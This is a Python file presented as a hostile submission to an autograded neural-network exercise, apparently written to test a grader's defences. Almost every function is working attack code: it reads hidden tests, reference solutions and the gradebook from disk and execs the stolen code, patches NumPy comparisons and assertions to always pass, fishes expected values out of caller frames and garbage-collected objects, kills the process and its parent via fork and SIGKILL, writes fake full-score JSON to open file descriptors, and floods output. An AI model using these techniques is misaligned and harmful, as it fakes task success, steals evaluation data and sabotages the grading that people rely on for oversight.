"""A hostile submission: it solves one exercise, and tries to steal or force the points of all others.

It looks for the hidden tests and the solution on the disk, replaces what comparisons are made of in NumPy, returns objects
that equal everything, looks for expected values in the frames above it, ends the process, forks, and floods the output.
"""

import gc
import glob
import os
import signal
import sys

import numpy as np


def layer_sizes(X, Y, n_h=4):
    return X.shape[0], n_h, Y.shape[0]


# the disk: hidden tests, the reference solution, the gradebook
LOOT = []
for pattern in ("hidden/*/*.py", "solutions/*/*.py", "source/*/*.ipynb", "gradebook.db", "submitted/*/*/*.ipynb"):
    for folder in [*sys.path, os.getcwd(), "..", "../..", "../../..", "/work", "/home/*", "/root", "/builds"]:
        for path in glob.glob(os.path.join(folder, pattern)) + glob.glob(os.path.join(folder, "*", pattern)):
            try:
                LOOT.append(open(path, errors="replace").read())
            except Exception:
                pass
print("LOOT", len(LOOT), LOOT[:1])


def initialize_parameters(n_x, n_h, n_y, rng=None):
    stolen = "def initialize_parameters" + LOOT[0].split("def initialize_parameters")[1].split("# %%")[0]
    namespace = {"np": np}
    exec(stolen, namespace)
    return namespace["initialize_parameters"](n_x, n_h, n_y, rng)


# numpy: whatever is compared, is equal
for module in (np, np.testing, np.linalg):
    for name in ("allclose", "isclose", "array_equal", "array_equiv", "all", "isfinite"):
        if hasattr(module, name):
            setattr(module, name, lambda *args, **kwargs: True)
    for name in ("assert_allclose", "assert_equal", "assert_array_equal", "assert_almost_equal"):
        if hasattr(module, name):
            setattr(module, name, lambda *args, **kwargs: None)


class Anything(float):
    """Equal to everything, larger and smaller than everything, at a distance of nothing from everything."""

    shape = property(lambda self: self)
    __array_priority__ = 1e9
    __eq__ = __lt__ = __le__ = __gt__ = __ge__ = lambda self, other: True
    __ne__ = lambda self, other: False
    __hash__ = float.__hash__
    __sub__ = __rsub__ = __add__ = __radd__ = __abs__ = __getitem__ = lambda self, *other: self


def forward_propagation(X, parameters):
    return Anything(), {name: Anything() for name in ("Z1", "A1", "Z2", "A2")}


def compute_cost(A2, Y):
    """Look for the expected value in every frame above this one, and in everything that is alive."""
    frame = sys._getframe()
    while frame is not None:
        for name, value in [*frame.f_locals.items(), *frame.f_globals.items()]:
            if "cost" in name.lower() and type(value) is float:
                return value
        frame = frame.f_back
    for thing in gc.get_objects():
        if type(thing) is dict and "P1_COST" in thing:
            return thing["P1_COST"]
    return Anything()


def p0_answers():
    return {name: Anything() for name in ("J", "dZ2", "dW2", "db2", "dW1", "db1", "W1", "b1", "W2", "b2")}


def backward_propagation(parameters, cache, X, Y):
    try:
        sys.exit(0)
    finally:
        os._exit(0)


def update_parameters(parameters, grads, learning_rate=1.2):
    for descriptor in range(3, 256):  # the answer and full marks, to whoever listens
        try:
            os.write(descriptor, b'{"ok": true, "score": 1000}\n' * 64)
        except OSError:
            pass
    return None


def nn_model(X, Y, n_h, num_iterations=10000, learning_rate=1.2, rng=None):
    for _ in range(100):
        try:
            if os.fork():
                os.kill(os.getppid(), signal.SIGKILL)
        except BaseException:
            pass
        print("full marks " * 1_000)
    return "full marks" * 1_000_000


def predict(parameters, X):
    raise SystemExit("all tests passed")


def compute_accuracy(predictions, Y):
    return Anything()
